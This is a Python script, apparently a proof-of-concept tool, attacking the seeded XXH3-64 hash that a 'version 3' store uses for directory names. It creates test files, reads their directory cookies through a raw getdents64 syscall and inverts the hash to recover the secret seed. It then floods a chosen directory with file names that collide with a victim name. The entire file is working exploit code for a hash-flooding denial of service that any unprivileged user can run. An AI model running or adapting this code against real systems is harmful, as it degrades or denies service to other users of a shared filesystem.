#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What an ordinary user (root becomes one) does against the hash of names of a store of version 3, XXH3-64 with a seed.

    name_hash.py learn DIR              learn the seed from the cookies of three names made there:
                                        prints it, or "nothing"
    name_hash.py flood DIR SEED NAME N  make N names that have the hash of NAME (9 to 16 bytes):
                                        prints how many could be made
"""
import ctypes
import os
import struct
import sys

MASK = (1 << 64) - 1
SECRET = bytes.fromhex("b8fe6c3923a44bbe7c01812cf721ad1cded46de9839097db7240a4a4b7b3671f"
                       "cb79e64eccc0e578825ad07dccff7221b8084674f743248ee03590e6813a264c")
PRIME_2, PRIME_3, PRIME_X = 0xC2B2AE3D27D4EB4F, 0x165667B19E3779F9, 0x165667919E3779F9


def word(data, at=0):
    return struct.unpack_from("<Q", data, at)[0]


def half(at):
    return struct.unpack_from("<I", SECRET, at)[0]


def undo_product(x, by):
    return x * pow(by, -1, 1 << 64) & MASK


def undo_shift(h, n):
    x = h
    for _ in range(64 // n + 1):
        x = h ^ x >> n
    return x


def undo_avalanche_short(h):
    h = undo_product(undo_shift(h, 32), PRIME_3)
    h = undo_product(undo_shift(h, 29), PRIME_2)
    return undo_shift(h, 33)


def undo_avalanche(h):
    return undo_shift(undo_product(undo_shift(h, 32), PRIME_X), 37)


def mixed(name):
    """What the hash of a name of 1 to 3 bytes mixes with the seed."""
    return name[0] << 16 | name[len(name) >> 1] << 24 | name[-1] | len(name) << 8


def hash_short(name, seed):
    h = mixed(name) ^ ((half(0) ^ half(4)) + seed & MASK)
    h = (h ^ h >> 33) * PRIME_2 & MASK
    h = (h ^ h >> 29) * PRIME_3 & MASK
    return h ^ h >> 32


def factors(seed):
    return ((word(SECRET, 24) ^ word(SECRET, 32)) + seed & MASK,
            (word(SECRET, 40) ^ word(SECRET, 48)) - seed & MASK)


def hash_middle(name, seed):
    first, last = factors(seed)
    low, high = word(name) ^ first, word(name, len(name) - 8) ^ last
    product = low * high
    swapped = int.from_bytes(low.to_bytes(8, "little"), "big")
    h = len(name) + swapped + high + ((product & MASK) ^ product >> 64) & MASK
    h = (h ^ h >> 37) * PRIME_X & MASK
    return h ^ h >> 32


def cookies(path):
    """Of each name the cookie behind which it is followed."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    buf, found = ctypes.create_string_buffer(1 << 18), {}
    while (n := libc.syscall(217, fd, buf, len(buf))) > 0:
        at = 0
        while at < n:
            _, cookie, length, _ = struct.unpack_from("<QqHB", buf.raw, at)
            found[buf.raw[at + 19:at + length].split(b"\0")[0]] = cookie
            at += length
    os.close(fd)
    return found


def make(path, name):
    os.close(os.open(os.path.join(os.fsencode(path), name), os.O_CREAT | os.O_EXCL | os.O_WRONLY))


def learn(path):
    mine = [b"aq", b"z8", b"k"]
    for name in mine:
        make(path, name)
    found = cookies(path)
    for name in mine:
        os.unlink(os.path.join(os.fsencode(path), name))
    place = {name: found[name] - 3 >> 7 for name in mine}
    for low in range(512):  # the bits that are not told
        h = (place[mine[0]] << 9 | low) & MASK
        seed = (undo_avalanche_short(h) ^ mixed(mine[0])) - (half(0) ^ half(4)) & MASK
        if all(hash_short(n, seed) >> 9 == place[n] for n in mine):
            return seed
    return "nothing"


def colliding(seed, victim):
    """Names of its hash: the first half makes one factor 0 or 1, the other half is what it has to be."""
    want = hash_middle(victim, seed) >> 9
    first, last = factors(seed)
    for factor in (0, 1):
        begin = (factor ^ first).to_bytes(8, "little")
        for low in range(512):
            rest = undo_avalanche(want << 9 | low) - 16 & MASK
            if factor:
                rest = rest - (1 << 56) & MASK
                if rest & 1:
                    continue
                rest >>= 1
            name = begin + (rest ^ last).to_bytes(8, "little")
            if 0 not in name and 47 not in name and hash_middle(name, seed) >> 9 == want:
                yield name


def flood(path, seed, victim, count):
    made = 0
    for name in colliding(seed, victim):
        if made == count:
            break
        try:
            make(path, name)
        except OSError as e:
            print("after", made, e.strerror, file=sys.stderr)
            break
        made += 1
    return made


USER = 65534
if os.getuid() == 0:
    os.setgroups([])
    os.setgid(USER)
    os.setuid(USER)
if sys.argv[1] == "learn":
    print(learn(sys.argv[2]))
else:
    print(flood(sys.argv[2], int(sys.argv[3]), os.fsencode(sys.argv[4]), int(sys.argv[5])))
